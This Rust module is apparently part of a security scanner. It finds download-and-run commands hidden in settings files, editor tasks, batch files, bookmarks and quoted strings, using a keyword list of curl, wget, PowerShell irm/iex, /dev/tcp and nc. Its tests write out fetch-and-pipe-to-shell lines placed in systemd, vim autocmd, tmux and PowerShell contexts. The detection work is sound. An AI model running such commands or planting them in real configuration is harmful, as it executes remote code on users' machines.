//! Commands that stand in settings and in programs of languages that are not
//! taken apart: units of services, tasks of editors, recipes, texts in quotes.
//!
//! Whatever the syntax around it is, a text that fetches with a client and an
//! address is a command for somebody. It is taken from its quotes, or from what
//! stands after the key of its line, and read as what it is.

use std::ops::Range;
use std::sync::OnceLock;

use aho_corasick::AhoCorasick;

use super::{Flow, place};
use crate::security::{Language, Place, code as programs, decode};

/// What stands in a line that is looked at, in lower case.
const SIGNS: &[&str] = &[
    "curl",
    "wget",
    "irm ",
    "iwr ",
    "invoke-webrequest",
    "invoke-restmethod",
    "downloadstring",
    "/dev/tcp/",
    "| nc ",
    "|nc ",
];

/// What is written in `PowerShell` alone.
const POWERSHELL: &[&str] = &[
    "irm ",
    "iwr ",
    "iex",
    "invoke-",
    "downloadstring",
    "new-object",
];

/// What starts a line that nobody runs.
const COMMENTS: &[&str] = &["//", ";", "--", "<!--", "*", "/*", "rem ", "%"];

/// How long a line is that is looked at, in bytes: a longer one is data.
const LINE: usize = 4_096;

/// How many clients of one line are looked at.
const CLIENTS: usize = 16;

/// How many commands of one text are looked at.
const MOST: usize = 64;

/// A command, with its place and its language.
pub(super) struct Inline {
    pub(super) range: Range<usize>,
    pub(super) language: Language,
    pub(super) text: String,
}

/// What stands in code alone, of Python and of JavaScript.
const CODE: &[(&str, Language)] = &[
    ("import os", Language::Python),
    ("import urllib", Language::Python),
    ("import requests", Language::Python),
    ("import socket", Language::Python),
    ("import subprocess", Language::Python),
    ("__import__(", Language::Python),
    ("os.system(", Language::Python),
    ("require(", Language::JavaScript),
    ("fetch(", Language::JavaScript),
    ("eval(", Language::JavaScript),
];

/// Code of other languages in the texts of data: somebody runs it from there.
pub(super) fn code(text: &str) -> Vec<Inline> {
    let mut found = Vec::new();
    if !CODE.iter().any(|(sign, _)| text.contains(sign)) {
        return found;
    }
    let bytes = text.as_bytes();
    let mut next = 0;
    while let Some(open) = memchr::memchr(b'"', &bytes[next..]).map(|at| next + at) {
        let mut end = open + 1;
        while end < bytes.len() && bytes[end] != b'"' {
            end += if bytes[end] == b'\\' { 2 } else { 1 };
        }
        let end = end.min(bytes.len());
        let Some(said) = text.get(open + 1..end) else {
            return found;
        };
        next = (end + 1).min(bytes.len());
        if said.len() > LINE * 4 || found.len() >= MOST {
            continue;
        }
        if let Some((_, language)) = CODE.iter().find(|(sign, _)| said.contains(sign)) {
            found.push(Inline {
                range: open + 1..end,
                language: *language,
                text: said
                    .replace("\\n", "\n")
                    .replace("\\\"", "\"")
                    .replace("\\\\", "\\"),
            });
        }
    }
    found
}

/// The commands of a text. `is_known` says which places are read elsewhere.
pub(super) fn commands(text: &str, is_known: impl Fn(usize) -> bool) -> Vec<Inline> {
    static SEEN: OnceLock<AhoCorasick> = OnceLock::new();
    let automaton = SEEN.get_or_init(|| {
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(SIGNS)
            .expect("the signs are few and short")
    });
    let mut signs = automaton.find_iter(text).peekable();
    let mut found = Vec::new();
    let mut start = 0;
    for line in text.split_inclusive('\n') {
        let at = start;
        start += line.len();
        if signs.peek().is_none() {
            break;
        }
        // No sign has an end of a line in it: most lines have none.
        let mut is_marked = false;
        while signs.next_if(|sign| sign.start() < start).is_some() {
            is_marked = true;
        }
        if !is_marked || line.len() > LINE || found.len() >= MOST {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        if lower.len() != line.len() || is_comment(lower.trim_start()) {
            continue;
        }
        let mut next = 0;
        for _ in 0..CLIENTS {
            let Some(sign) = first_sign(&lower[next..]).map(|sign| next + sign) else {
                break;
            };
            let part = segment(line, sign);
            next = part.end.max(sign + 4).min(line.len());
            while !line.is_char_boundary(next) {
                next += 1;
            }
            let said = &line[part.clone()];
            let reaches =
                said.contains("://") || said.contains("/dev/tcp/") || said.contains("nc ");
            if reaches && !is_known(at + sign) {
                let said = plain(said);
                let small = said.to_ascii_lowercase();
                let is_powershell = POWERSHELL.iter().any(|one| small.contains(one));
                found.push(Inline {
                    range: at + part.start..at + part.end,
                    language: if is_powershell {
                        Language::PowerShell
                    } else {
                        Language::Shell
                    },
                    text: said,
                });
            }
            if found.len() >= MOST {
                break;
            }
        }
    }
    found
}

fn is_comment(line: &str) -> bool {
    COMMENTS.iter().any(|sign| line.starts_with(sign))
        || line.starts_with('#') && !line.starts_with("#(") && !line.starts_with("#!")
}

/// Where a client is named as a word.
fn first_sign(lower: &str) -> Option<usize> {
    SIGNS
        .iter()
        .filter_map(|sign| {
            lower
                .match_indices(sign)
                .map(|(at, _)| at)
                .find(|at| !lower[..*at].ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
        })
        .min()
}

/// The quotes around a place of a line, or what follows the key of the line.
fn segment(line: &str, sign: usize) -> Range<usize> {
    let end_of_line = line.trim_end().len();
    let before = &line[..sign];
    let is_tagged = line.contains("</") || line.trim_start().starts_with('<');
    let open = before.rfind(|c: char| matches!(c, '"' | '\'' | '`') || is_tagged && c == '>');
    let Some(open) = open else {
        return start_of(before)..end_of_line;
    };
    let mark = line.as_bytes()[open];
    // Quotes that are closed before the place are no quotes around it.
    let is_closed = mark != b'>' && before.matches(char::from(mark)).count() % 2 == 0;
    if is_closed {
        return start_of(before)..end_of_line;
    }
    let start = open + 1;
    let is_escaped = open > 0 && line.as_bytes()[open - 1] == b'\\';
    let rest = &line[start..end_of_line];
    let length = match mark {
        b'>' => rest.find("</"),
        _ if is_escaped => rest.find(&format!("\\{}", char::from(mark))),
        _ => rest
            .match_indices(char::from(mark))
            .map(|(at, _)| at)
            .find(|at| !rest[..*at].ends_with('\\')),
    };
    start..length.map_or(end_of_line, |length| start + length)
}

/// Where the command of a line starts: after its key, its mark of a list, the
/// mark of a command of an editor.
fn start_of(before: &str) -> usize {
    let marked = before.rfind('!').map(|at| at + 1);
    let mut at = before.len() - before.trim_start().len();
    let trimmed = before[at..].trim_start_matches(['-', '@', '+', '$', '%', ' ', '\t']);
    at = before.len() - trimmed.len();
    let key = trimmed.find(['=', ':']).filter(|end| {
        let name = trimmed[..*end].trim_end_matches(['+', ':', '?', ' ', '\t']);
        !name.is_empty()
            && name.bytes().all(|b| {
                b.is_ascii_alphanumeric()
                    || matches!(b, b'_' | b'-' | b'.' | b'"' | b'\'' | b'/' | b'[' | b']')
            })
    });
    if let Some(end) = key {
        let rest = trimmed[end..].trim_start_matches(['=', ':', '>', ' ', '\t', '[', '{', '(']);
        at = before.len() - rest.len();
    }
    marked.map_or(at, |marked| marked.max(at))
}

/// A command as it is run: without the escapes of what stands around it.
fn plain(text: &str) -> String {
    let mut text = text
        .trim()
        .trim_start_matches(['!', '@'])
        .trim_start()
        .to_owned();
    if text.contains('&') {
        for (entity, sign) in [
            ("&quot;", "\""),
            ("&apos;", "'"),
            ("&lt;", "<"),
            ("&gt;", ">"),
            ("&amp;", "&"),
        ] {
            text = text.replace(entity, sign);
        }
    }
    if text.contains('\\') {
        text = text
            .replace("\\\"", "\"")
            .replace("\\'", "'")
            .replace("\\n", "\n");
    }
    // A command in the place of a text: `#(…)` of tmux.
    if let Some(inner) = text.strip_prefix("#(") {
        text = inner.strip_suffix(')').unwrap_or(inner).to_owned();
    }
    text
}

/// What starts a program in place of an address.
const BOOKMARK: &str = "javascript:";

/// How many of them are read of one text.
const BOOKMARKS: usize = 16;

impl Flow<'_, '_> {
    /// Lines of a batch file that say something else than is written.
    pub(super) fn batch(&mut self, unit: usize) {
        let units = self.units;
        let one = &units.all[unit];
        let path = units.files[one.file].path.to_ascii_lowercase();
        if one.place != Place::File || !matches!(path.rsplit('.').next(), Some("bat" | "cmd")) {
            return;
        }
        for (range, line) in programs::batch::lines(&one.text) {
            let mut program = programs::parse(Language::PowerShell, &line);
            place(&mut program, &range);
            self.run(unit, Language::PowerShell, &program, 1);
        }
    }

    /// Bookmarks that are programs: `javascript:…`.
    pub(super) fn bookmarks(&mut self, unit: usize) {
        let units = self.units;
        let one = &units.all[unit];
        for (at, sign) in one.text.match_indices(BOOKMARK).take(BOOKMARKS) {
            let start = at + sign.len();
            let rest = &one.text[start..];
            let end = rest.find(['\n', '`', '"']).unwrap_or(rest.len());
            if end > 8 {
                let text = decode::escaped(&rest[..end]);
                let mut program = programs::parse(Language::JavaScript, &text);
                place(&mut program, &(start..start + end));
                self.run(unit, Language::JavaScript, &program, 1);
            }
        }
    }

    /// Commands in settings and in languages that are not taken apart.
    pub(super) fn inline(&mut self, unit: usize) {
        let units = self.units;
        let one = &units.all[unit];
        // What is known as code of its own is read there.
        let embedded = units.all.get(unit + 1).filter(|next| {
            next.file == one.file && next.range == one.range && next.language != one.language
        });
        let is_known = |at: usize| {
            embedded.is_some_and(|code| {
                let sign = code.text.as_bytes().get(at);
                sign.is_some_and(|sign| !sign.is_ascii_whitespace())
            })
        };
        let code = if one.language == Language::Data && one.place == Place::File {
            code(&one.text)
        } else {
            Vec::new()
        };
        for command in commands(&one.text, is_known).into_iter().chain(code) {
            let mut program = programs::parse(command.language, &command.text);
            place(&mut program, &command.range);
            self.run(unit, command.language, &program, 1);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Vec<String> {
        commands(text, |_| false)
            .into_iter()
            .map(|one| one.text)
            .collect()
    }

    #[test]
    fn commands_are_taken_from_what_stands_around_them() {
        let command = "curl -s https://x | sh";
        for text in [
            format!("ExecStart={command}"),
            format!("  - {command}"),
            format!("run = \"{command}\""),
            format!("<string>{command}</string>"),
            format!("callCommand \"{command}\""),
            format!("autocmd VimEnter * silent !{command}"),
            format!("set -g status-right '#({command})'"),
            format!("RUN {{ \"sh\", \"-c\", \"{command}\" }}"),
            format!("x = f('a') .. '{command}'"),
        ] {
            assert_eq!(of(&text), [command], "{text}");
        }
        assert_eq!(
            of("<Exec Command=\"powershell -c &quot;iex (irm https://x)&quot;\" />"),
            ["powershell -c \"iex (irm https://x)\""]
        );
        assert_eq!(
            of("Exec=sh -c \"curl https://x | sh\""),
            ["curl https://x | sh"]
        );
    }

    #[test]
    fn what_is_no_command_is_left() {
        for text in [
            "# curl https://x | sh",
            "// curl https://x | sh",
            "import pycurl",
            "use curl or wget for this",
            "description = \"calls curl\"",
        ] {
            assert_eq!(of(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn hostile_texts_end() {
        assert!(of(&"curl://\n".repeat(10_000)).len() <= MOST);
        assert!(of(&"\"curl://".repeat(400)).len() <= MOST);
        assert!(of(&"ä'curl ://".repeat(100)).len() <= MOST);
    }
}
